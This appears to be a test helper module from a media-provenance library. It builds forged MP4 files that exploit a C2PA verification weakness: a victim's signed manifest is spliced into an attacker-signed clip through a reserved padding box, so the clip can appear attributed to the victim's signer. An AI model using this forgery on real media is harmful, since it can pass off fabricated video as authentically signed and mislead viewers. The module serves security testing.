"""Attack files, built the way an outside attacker would build them (with c2pa-python and bytes)."""

from __future__ import annotations

import io
import json
import struct
from pathlib import Path

from provenance._formats import bmff, jumbf
from provenance.keys import signers
from provenance.keys.pki import DevPki
from provenance.media import MP4

C2PA_ROOT_LABEL = b"c2pa"


def _box(box_type: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + box_type + payload


def top_level(data: bytes) -> list[tuple[bytes, int, int]]:
    """(type, offset, size) of each top-level box."""
    out, offset = [], 0
    while offset + 8 <= len(data):
        size, kind = struct.unpack(">I4s", data[offset:offset + 8])
        out.append((kind, offset, size))
        offset += size
    return out


def c2pa_box(data: bytes) -> tuple[int, int]:
    """(offset, size) of the file's C2PA uuid box."""
    for kind, offset, size in top_level(data):
        if kind == b"uuid" and data[offset + 8:offset + 24] == bmff.C2PA_UUID:
            return offset, size
    raise ValueError("no C2PA box")


def manifest_superboxes(store: bytes) -> tuple[bytes, list[bytes]]:
    """The store's root description box (jumd, whole) and each manifest superbox, as raw bytes."""
    size, kind = struct.unpack(">I4s", store[:8])
    assert kind == b"jumb"
    payload = store[8:size]
    parts, offset = [], 0
    while offset < len(payload):
        part_size = struct.unpack(">I", payload[offset:offset + 4])[0]
        parts.append(payload[offset:offset + part_size])
        offset += part_size
    return parts[0], parts[1:]


def relabel(manifest: bytes, old: str, new: str) -> bytes:
    """A manifest superbox whose label (and every self-reference to it) reads `new`; same length."""
    assert len(old) == len(new)
    return manifest.replace(old.encode(), new.encode())


def label_of(manifest: bytes) -> str:
    jumd_payload = manifest[16:]
    end = jumd_payload.index(b"\0", 17)
    return jumd_payload[17:end].decode()


def sign_with_c2pa(src: Path, out: Path, pki: DevPki, title: str = "attacker clip") -> None:
    """Sign as a third-party tool does: c2pa-python's Builder with its default settings."""
    import c2pa

    creds = signers.from_pem_files(pki.signer_chain, pki.signer_key)
    manifest = {"claim_generator_info": [{"name": "attacker-tool", "version": "1"}], "title": title,
                "assertions": [{"label": "c2pa.actions.v2", "data": {"actions": [{
                    "action": "c2pa.created",
                    "digitalSourceType": "http://cv.iptc.org/newscodes/digitalsourcetype/trainedAlgorithmicMedia"}]}}]}
    builder = c2pa.Builder(json.dumps(manifest))
    with open(src, "rb") as source, open(out, "w+b") as dest:
        builder.sign(creds.c2pa_signer(), "video/mp4", source, dest)


def with_free_box_after_ftyp(src: Path, out: Path, size: int) -> None:
    """`src` with a `free` box of `size` bytes right after ftyp, chunk offsets fixed."""
    import os

    fd = os.open(src, os.O_RDONLY)
    try:
        plan = bmff.plan_insert_after_ftyp(fd, os.fstat(fd).st_size, _box(b"free", b"\0" * (size - 8)))
        data = b"".join(piece.data if piece.data is not None else os.pread(fd, piece.length, piece.source_offset)
                        for piece in plan.pieces())
    finally:
        os.close(fd)
    out.write_bytes(data)


def forged_signer_clip(victim_signed: Path, attacker_src: Path, attacker_pki: DevPki, work: Path) -> Path:
    """Finding 1: the victim's manifest, relabelled to the attacker's label, placed before the attacker's.

    The attacker signs their clip with room reserved (a `free` box, which c2pa leaves out of the hash by
    default), then swaps the C2PA box and the padding for one holding both manifests, so every other box
    keeps its offset and the attacker's signature stays valid."""
    victim_data = victim_signed.read_bytes()
    off, size = c2pa_box(victim_data)
    victim_store = jumbf.manifest_store_bytes(io.BytesIO(victim_data), len(victim_data), MP4)
    assert victim_store is not None
    _, (victim_manifest, *_) = manifest_superboxes(victim_store)
    padded = work / "attacker-padded.mp4"
    with_free_box_after_ftyp(attacker_src, padded, len(victim_manifest))
    signed = work / "attacker-signed.mp4"
    sign_with_c2pa(padded, signed, attacker_pki)
    data = signed.read_bytes()
    c2pa_off, c2pa_size = c2pa_box(data)
    free_kind, free_off, free_size = next(b for b in top_level(data) if b[1] == c2pa_off + c2pa_size)
    assert free_kind == b"free" and free_size == len(victim_manifest)
    store = jumbf.manifest_store_bytes(io.BytesIO(data), len(data), MP4)
    assert store is not None
    root_desc, attacker_manifests = manifest_superboxes(store)
    attacker_label = label_of(attacker_manifests[-1])
    forged = relabel(victim_manifest, label_of(victim_manifest), attacker_label)
    new_store = _box(b"jumb", root_desc + forged + b"".join(attacker_manifests))
    head_len = len(store)  # the JUMBF sits at the end of the C2PA box
    box_head = data[c2pa_off + 8:c2pa_off + c2pa_size - head_len]
    new_box = _box(b"uuid", box_head + new_store)
    assert len(new_box) == c2pa_size + free_size
    out = work / "forged-signer.mp4"
    out.write_bytes(data[:c2pa_off] + new_box + data[free_off + free_size:])
    return out

